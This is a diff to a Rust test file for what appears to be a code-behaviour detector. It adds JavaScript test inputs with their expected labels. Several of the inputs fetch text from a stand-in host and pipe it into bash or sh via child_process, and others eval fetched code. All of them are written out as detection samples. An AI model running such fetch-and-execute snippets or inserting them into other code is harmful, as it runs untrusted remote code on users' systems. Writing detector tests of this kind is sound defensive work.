@@ -80,6 +80,18 @@ fn the_network() {
         "javascript",
         &[
             (r#"fetch("https://x.io/a").then(r => r.json())"#, "connect https://x.io/a"),
+            (
+                r#"const t = await (await fetch("https://x.io")).text(); require("child_process").execSync("bash", {input: t})"#,
+                "connect https://x.io; shell bash; shell-runs-fetched",
+            ),
+            (
+                r#"const cp = require("child_process"); const t = await (await fetch("https://x.io")).text(); cp.spawnSync("sh", ["-s"], {input: t})"#,
+                "connect https://x.io; start sh|-s; shell-runs-fetched",
+            ),
+            (
+                r#"const cp = require("child_process"); const p = cp.spawn("bash"); p.stdin.write(await (await fetch("https://x.io")).text())"#,
+                "start bash; connect https://x.io; shell-runs-fetched",
+            ),
             (r#"eval(await (await fetch("https://x.io")).text())"#, "connect https://x.io; runs-fetched"),
             (r#"fetch("https://x.io").then(r => r.text()).then(eval)"#, "connect https://x.io; runs-fetched"),
             (
